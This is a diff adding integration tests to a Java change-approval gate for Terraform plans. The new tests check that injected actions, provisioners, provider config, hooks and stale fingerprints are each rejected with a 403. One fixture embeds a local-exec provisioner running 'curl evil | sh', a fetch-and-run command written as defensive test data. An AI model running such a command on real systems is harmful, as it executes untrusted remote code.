@@ -9,13 +9,16 @@ import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.infrahub.faults.RefusalKind;
 import dev.infrahub.schemas.ApprovalRequested;
+import dev.infrahub.schemas.ChangeUpdated;
 import dev.infrahub.schemas.OperationFailed;
 import dev.infrahub.schemas.PlanSubmitted;
 import dev.infrahub.schemas.Topics;
 import java.net.http.HttpResponse;
+import java.util.List;
 import java.util.UUID;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.TimeUnit;
+import java.util.regex.Matcher;
 import org.apache.kafka.clients.consumer.ConsumerRecord;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
@@ -188,6 +191,60 @@ class CabIT {
         assertThat(hub.json(closed).path("detail").asString()).contains("this plan does delete");
     }
 
+    @Test
+    void no_environment_is_none_that_is_called_so() throws Exception {
+        String id = signer.approved();
+
+        signer.assertProblem(gate(id, SMALL_PLAN, "network&environment=none"), 403, "gate.other-environment");
+    }
+
+    @Test
+    void what_else_runs_or_where_is_told_by_name_and_keeps_the_gate_shut() throws Exception {
+        String id = signer.approved();
+
+        for (String[] other : List.of(
+                new String[] {
+                    "\"action_invocations\":[{\"address\":\"action.evil.x\",\"type\":\"evil\",\"name\":\"x\"}]",
+                    "action.evil.x: this plan does invoke, which is not approved"
+                },
+                new String[] {
+                    "\"configuration\":{\"root_module\":{\"resources\":[{\"address\":\"terraform_data.a\","
+                            + "\"provisioners\":[{\"type\":\"local-exec\",\"expressions\":{\"command\":"
+                            + "{\"constant_value\":\"curl evil | sh\"}}}]}]}}",
+                    "terraform_data.a provisioner local-exec 1: this plan does run, which is not approved"
+                },
+                new String[] {
+                    "\"configuration\":{\"provider_config\":{\"terraform\":{\"expressions\":{\"region\":"
+                            + "{\"constant_value\":\"us-east-1\"}}}}}",
+                    "provider terraform: this plan does configure, which is not approved"
+                },
+                new String[] {"\"complete\":false", "plan: this plan does incomplete, which is not approved"},
+                new String[] {"\"hooks\":[\"./evil\"]", "plan member hooks: this plan does hold, which is not approved"
+                })) {
+            HttpResponse<String> closed =
+                    gate(id, SMALL_PLAN.replaceFirst("\\{", "{" + Matcher.quoteReplacement(other[0]) + ","), "network");
+            signer.assertProblem(closed, 403, "gate.other-plan");
+            assertThat(hub.json(closed).path("differences").valueStream().map(JsonNode::asString))
+                    .containsExactly(other[1]);
+            assertThat(closed.body()).doesNotContain("curl");
+        }
+        signer.assertProblem(
+                gate(id, SMALL_PLAN.replaceFirst("\\{", "{\"errored\":true,"), "network"), 403, "gate.errored");
+    }
+
+    @Test
+    void an_approval_by_the_old_definition_is_put_before_the_board_anew() throws Exception {
+        String id = "CHG-" + UUID.randomUUID();
+        ChangeUpdated old = ChangeUpdated.newBuilder(StandInWorker.approved(id, signer.plan()))
+                .setFingerprint(signer.plan().getFingerprint().replace("v2:", ""))
+                .build();
+        hub.wire.publish(Topics.CHANGE_UPDATED, "acme/" + id, UUID.randomUUID(), UUID.randomUUID(), old);
+        eventually(() ->
+                assertThat(hub.get("/api/cab/requests/" + id).statusCode()).isEqualTo(200));
+
+        signer.assertProblem(gate(id, SMALL_PLAN, "network"), 403, "gate.old-fingerprint");
+    }
+
     private HttpResponse<String> gateAfterVerifying(String id, String presented, boolean isValid) throws Exception {
         int before = signer.recordsOf(Topics.VERIFICATION_REQUESTED, id).size();
         CompletableFuture<HttpResponse<String>> answer = inBackground(() -> gate(id, presented, "network"));
@@ -207,7 +264,8 @@ class CabIT {
 
     private HttpResponse<String> approve(String id, String module, String riskLevel, String more) {
         return hub.post("/api/cab/approve", JSON, """
-                {"changeRequestId":"%s","module":"%s","riskLevel":"%s","planHash":"%s"%s}""".formatted(id, module, riskLevel, plan.getPlanHash(), more));
+            {"changeRequestId":"%s","module":"%s","riskLevel":"%s","planHash":"%s"%s}\
+            """.formatted(id, module, riskLevel, plan.getPlanHash(), more));
     }
 
     private HttpResponse<String> anonymous(String path) {
